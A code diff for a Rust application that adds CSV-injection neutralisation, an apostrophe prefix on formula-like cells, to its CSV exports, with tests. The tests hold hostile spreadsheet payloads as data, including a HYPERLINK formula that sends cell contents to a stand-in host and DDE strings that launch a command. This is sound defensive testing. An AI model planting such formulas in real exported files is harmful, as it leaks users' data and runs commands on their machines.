@@ -7,9 +7,22 @@ use crate::domain::Workspace;
 
 const BOM: &str = "\u{feff}";
 
+/// A text cell that Excel or WPS would read as a formula (=, +, -, @, or a tab or carriage
+/// return before one) gets a leading apostrophe, as OWASP advises for CSV injection: the
+/// spreadsheet then shows the text instead of running it.
+pub fn neutralise(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
 fn write_rows(rows: impl IntoIterator<Item = Vec<String>>) -> String {
     let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
     for r in rows {
+        // Numbers we format ourselves are never negative here; every cell is checked anyway.
+        let r: Vec<String> = r.into_iter().map(neutralise).collect();
         // Writing into memory cannot fail.
         let _ = w.write_record(&r);
     }
@@ -111,6 +124,29 @@ mod tests {
         assert_eq!(t.rows[0][1], "客户 \"甲\", 第一期");
         assert_eq!(t.rows[0][14], "line one\nline two");
         assert_eq!(t.rows[0][6], ws.pipelines[0].stage(&ws.deals[0].stage).unwrap().name);
+    }
+
+    #[test]
+    fn formulas_in_user_text_are_exported_as_text_in_both_files() {
+        let now = chrono::Utc.with_ymd_and_hms(2026, 11, 1, 0, 0, 0).unwrap();
+        let mut ws = demo::generate(6, 1, 1, now, Lang::En);
+        let evil = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"y\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1"];
+        for (d, e) in ws.deals.iter_mut().zip(evil) {
+            d.title = e.to_string();
+            d.account = e.to_string();
+        }
+        ws.pipelines[0].stages[0].name = "=1+1".into();
+        let t = read_table(deals_csv(&ws, None).as_bytes()).unwrap();
+        for (row, e) in t.rows.iter().zip(evil) {
+            assert_eq!(row[1], format!("'{e}"));
+            assert_eq!(row[2], format!("'{e}"));
+        }
+        assert!(t.rows.iter().flatten().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])));
+        let r = crate::analytics::report(&ws, &ws.pipelines[0], &crate::analytics::Query::new(now));
+        let t = read_table(report_csv(&r).as_bytes()).unwrap();
+        assert_eq!(t.rows[0][0], "'=1+1");
+        // Ordinary text is untouched.
+        assert_eq!(neutralise("Acme – 2+3".into()), "Acme – 2+3");
     }
 
     #[test]
